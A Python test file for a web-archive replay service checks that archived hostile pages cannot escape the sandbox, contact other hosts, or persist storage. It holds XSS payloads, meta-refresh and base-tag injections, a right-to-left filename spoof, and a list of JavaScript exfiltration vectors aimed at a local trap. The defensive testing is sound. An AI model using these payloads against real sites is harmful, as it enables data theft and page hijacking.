"""Archived pages that try to break out of replay, to ask others, or to leave something behind: none of it works."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import suppress
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Error, Frame, Page

from tests.browser import chromium
from tests.loopback import LoopbackSite, Shown
from tests.pipelines.judged_pages import ARTICLE_HEAD, page, paragraphs
from tests.pressroom import crawl
from tests.test_replay import NOW, Replayed, replaying

OVERRIDE = "\u202e"
HEADLINES = {
    "raw": "<script>window.pwned = 1</script><img src=x onerror='window.pwned = 1'>",
    "long": "Very long " * 20_000,
    "turned": f"Harbour {OVERRIDE}gpj.exe",
    "trusted": "The trusted story",
}
PLACES = {"meta": '<meta http-equiv="refresh" content="0; url=TRAP/meta">', "base": '<base href="TRAP/base/">'}


class Trap:
    """Hears what is said to a port of loopback, by TCP and by UDP.

    A connection in which nothing is said does not count: browsers open one before the policy forbids what is asked.
    """

    def __init__(self) -> None:
        self.said: list[bytes] = []
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        threading.Thread(target=self._listen, daemon=True).start()
        threading.Thread(target=self._hear, args=(self.udp.dup(),), daemon=True).start()

    def _listen(self) -> None:
        while True:
            connection, _ = self.tcp.accept()
            threading.Thread(target=self._hear, args=(connection,), daemon=True).start()

    def _hear(self, connection: socket.socket) -> None:
        with suppress(OSError), connection:
            connection.settimeout(2)
            if said := connection.recv(2000):
                self.said.append(said)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"


class Hostile(LoopbackSite):
    """Pages that are articles, and mean harm."""

    def __init__(self, trap: Trap) -> None:
        self.trap = trap
        super().__init__()

    def shown(self, path: str) -> Shown:
        names = [*HEADLINES, *PLACES]
        if path == "/sitemap.xml":
            listed = "".join(f"<url><loc>{self.url}/news/{name}</loc></url>" for name in names)
            return f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{listed}</urlset>'
        name = path.removeprefix("/news/")
        if name not in names:
            return 404
        headline = HEADLINES.get(name, f"Harbour {name}")
        escaped = headline.replace("<", "&lt;")
        told = paragraphs(*(f"Sentence {number} on the harbour called {name}." for number in range(12)))
        head = ARTICLE_HEAD + PLACES.get(name, "").replace("TRAP", self.trap.url)
        picture = '<img src="relative.png">'
        return page(escaped, f"<article><h1>{escaped}</h1>{picture}{told}</article>", head)


@pytest.fixture(scope="module")
def trap() -> Trap:
    return Trap()


@pytest.fixture(scope="module")
def replay(tmp_path_factory: pytest.TempPathFactory, trap: Trap) -> Iterator[tuple[str, Replayed]]:
    home = tmp_path_factory.mktemp("hostile")
    with Hostile(trap) as hostile:
        crawl(hostile, home)
        url = hostile.url
    with replaying("--archive", str(home / "archive")) as running:
        yield url, running


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as started:
        yield started


@pytest.fixture
def tab(browser: Browser) -> Iterator[Page]:
    context = browser.new_context()
    yield context.new_page()
    context.close()


def opened(tab: Page, replay: tuple[str, Replayed], name: str, modifier: str = "mp_") -> Frame:
    """The archived page in its frame; with id_ as it was stored, so without anything that pywb puts before it."""
    site, running = replay
    tab.goto(f"http://{running.host}/archive/{NOW}/{site}/news/{name}")
    tab.locator("#newsroom", has_text="n").wait_for()
    frame = tab.frames[-1]
    frame.locator("article").wait_for(timeout=20_000)
    if modifier != "mp_":
        frame.goto(frame.url.replace("mp_/", f"{modifier}/"))
    return frame


ATTACKS = {
    "top": "top.location = 'TRAP/'",
    "parent": "parent.location.href = 'TRAP/'",
    "top link": "(() => { const a = document.createElement('a'); a.href = 'TRAP/'; a.target = '_top';"
    " document.body.append(a); a.click(); })()",
    "new window": "String(window.open('TRAP/'))",
    "blank link": "(() => { const a = document.createElement('a'); a.href = 'TRAP/'; a.target = '_blank';"
    " document.body.append(a); a.click(); })()",
    "form": "(() => { const f = document.createElement('form'); f.method = 'post'; f.action = 'TRAP/';"
    " document.body.append(f); f.submit(); })()",
    "fetch": "fetch('TRAP/', {mode: 'no-cors'}).catch(() => 0)",
    "beacon": "navigator.sendBeacon('TRAP/', 'x')",
    "socket": "new WebSocket('TRAP/'.replace('http', 'ws')), 0",
    "events": "new EventSource('TRAP/'), 0",
    "picture": "(() => { new Image().src = 'TRAP/x.png'; })()",
    "links": "(() => { for (const rel of ['prefetch', 'preload', 'dns-prefetch', 'modulepreload', 'prerender',"
    " 'stylesheet', 'icon']) { const one = document.createElement('link'); one.rel = rel; one.as = 'image';"
    " one.href = 'TRAP/' + rel; document.head.append(one); } })()",
    "script": "(() => { const one = document.createElement('script'); one.src = 'TRAP/x.js';"
    " document.head.append(one); })()",
    "speculation": "(() => { const one = document.createElement('script'); one.type = 'speculationrules';"
    " one.textContent = JSON.stringify({prefetch: [{source: 'list', urls: ['TRAP/s']}]});"
    " document.head.append(one); })()",
    "frame": "(() => { const one = document.createElement('iframe'); one.src = 'TRAP/';"
    " document.body.append(one); })()",
    "object": "(() => { const one = document.createElement('object'); one.data = 'TRAP/';"
    " document.body.append(one); })()",
    "base": "(() => { const one = document.createElement('base'); one.href = 'TRAP/'; document.head.prepend(one);"
    " new Image().src = 'relative.png'; })()",
    "worker": "(() => { new Worker(URL.createObjectURL(new Blob([`fetch('TRAP/', {mode: 'no-cors'})`]))); })()",
    "meta": "(() => { const one = document.createElement('meta'); one.httpEquiv = 'refresh';"
    " one.content = '0; url=TRAP/'; document.head.append(one); })()",
    "preconnect": "(() => { const one = document.createElement('link'); one.rel = 'preconnect'; one.href = 'TRAP/';"
    " document.head.append(one); })()",
    "away": "(() => { location.href = 'TRAP/'; })()",
}

MOVING = ("top link", "blank link", "form", "meta", "away", "base")


@pytest.mark.parametrize("modifier", ["mp_", "id_"])
def test_nothing_leads_out(tab: Page, replay: tuple[str, Replayed], trap: Trap, modifier: str) -> None:
    opened(tab, replay, "trusted", modifier)
    for name, attack in ATTACKS.items():
        with suppress(Error):
            tab.frames[1].evaluate(attack.replace("TRAP", trap.url))
        if name in MOVING:
            tab.wait_for_timeout(300)
            opened(tab, replay, "trusted", modifier)
    tab.wait_for_timeout(500)
    assert trap.said == []
    assert urlsplit(tab.url).netloc == replay[1].host
    assert len(tab.context.pages) == 1


@pytest.mark.parametrize("name", list(PLACES))
def test_what_stands_in_a_page_leads_nowhere_either(
    tab: Page, replay: tuple[str, Replayed], trap: Trap, name: str
) -> None:
    site, running = replay
    for modifier in ("mp_", "id_"):
        tab.goto(f"http://{running.host}/archive/{NOW}/{site}/news/{name}")
        tab.wait_for_timeout(500)
        if modifier == "id_":
            with suppress(Error):
                tab.frames[1].goto(f"http://{running.content}/archive/{NOW}id_/{site}/news/{name}")
        tab.wait_for_timeout(500)
    assert trap.said == []
    assert urlsplit(tab.url).netloc == replay[1].host


KEPT = """async () => {
  const did = [];
  const tried = async (name, act) => { try { await act(); did.push(name); } catch (denied) { return; } };
  await tried("cookie", () => { document.cookie = "left=1; path=/"; });
  await tried("local", () => localStorage.setItem("left", "1"));
  await tried("session", () => sessionStorage.setItem("left", "1"));
  await tried("cache", () => caches.open("left"));
  await tried("database", () => new Promise((done, failed) => {
    const asked = indexedDB.open("left"); asked.onsuccess = done; asked.onerror = failed; }));
  await tried("worker", () => navigator.serviceWorker.register(location.href));
  await tried("domain", () => { document.domain = "127.0.0.1"; });
  await tried("directory", () => navigator.storage.getDirectory());
  await tried("shared", () => new SharedWorker(location.href));
  return did;
}"""


def test_a_page_leaves_nothing_behind(tab: Page, replay: tuple[str, Replayed]) -> None:
    raw = opened(tab, replay, "trusted", "id_")
    assert raw.evaluate(KEPT) == []
    shown = opened(tab, replay, "trusted")
    assert shown.evaluate("window.RTCPeerConnection === undefined")
    # a memory of its own, which the next page does not have
    assert {"cookie", "local"} <= set(shown.evaluate(KEPT))
    assert shown.evaluate("document.cookie") == "left=1"
    again = opened(tab, replay, "trusted")
    assert again.evaluate("[document.cookie, localStorage.getItem('left')]") == ["", None]
    assert tab.context.cookies() == []
    assert tab.context.storage_state(indexed_db=True)["origins"] == []


def test_no_service_worker_is_served(replay: tuple[str, Replayed]) -> None:
    site, running = replay
    path = f"/archive/{NOW}sw_/{site}/news/raw"
    assert running.get(path, at=running.content, Service_Worker="script")[0] == 403


TOLD = """(told) => {
  for (const message of told) parent.postMessage(message, "*");
}"""


@pytest.mark.parametrize("modifier", ["mp_", "id_"])
def test_what_a_page_tells_changes_nothing_above_it(tab: Page, replay: tuple[str, Replayed], modifier: str) -> None:
    site, _ = replay
    frame = opened(tab, replay, "raw", modifier)
    before, address = tab.inner_text("header"), tab.url
    lie = {"url": f"{site}/news/trusted", "ts": "20200101000000", "request_ts": "20200101000000", "title": "<b>x"}
    script = {**lie, "url": "javascript:window.pwned = 1"}
    made_up = [{**one, "wb_type": kind} for one in (lie, script) for kind in ("load", "replace-url", "hashchange")]
    sealed = [{"newsark": {**one, "moment": "20200101000000", "seal": "0" * 64}} for one in (lie, script)]
    frame.evaluate(TOLD, [*made_up, *sealed, {"newsark": 1}, None, "x"])
    tab.wait_for_timeout(500)
    assert tab.inner_text("header") == before
    assert tab.url == address
    assert tab.evaluate("window.pwned") is None
    assert tab.frames[1].url == frame.url


def test_a_page_cannot_take_the_seal_of_another(tab: Page, replay: tuple[str, Replayed]) -> None:
    site, _ = replay
    frame = opened(tab, replay, "raw")
    text = frame.evaluate("(url) => fetch(url).then((answer) => answer.text())", f"{site}/news/trusted")
    assert "The trusted story" in text
    assert "seal" not in text


def test_headlines_are_text(tab: Page, replay: tuple[str, Replayed]) -> None:
    _, running = replay
    tab.goto(f"http://{running.host}/")
    assert "window.pwned = 1" in tab.inner_text("main")
    assert tab.evaluate("window.pwned") is None
    assert len(tab.content()) < 20_000
    # turned text stays inside its own place
    assert tab.locator("bdi", has_text=OVERRIDE).count() == 1
    frame = opened(tab, replay, "raw")
    assert tab.evaluate("window.pwned") is None
    assert frame.evaluate("window.pwned === undefined")


def test_marks_that_turn_the_direction_are_seen_in_an_address(tab: Page, replay: tuple[str, Replayed]) -> None:
    _, running = replay
    tab.goto(f"http://{running.host}/archive/{NOW}/http://a.example/{OVERRIDE}moc.b")
    tab.locator("#newsroom", has_text="none").wait_for()
    assert "%E2%80%AE" in tab.inner_text("#address")


def test_it_answers_to_no_other_name(replay: tuple[str, Replayed]) -> None:
    _, running = replay
    assert running.get("/", Host="rebound.example")[0] == 421
    assert running.get("/", Host=running.host)[0] == 200


def test_only_who_was_named_may_show_the_frame(replay: tuple[str, Replayed]) -> None:
    site, running = replay
    for path in ("/", f"/archive/{NOW}/{site}/news/raw"):
        assert "frame-ancestors 'none'" in running.get(path)[1]["content-security-policy"]
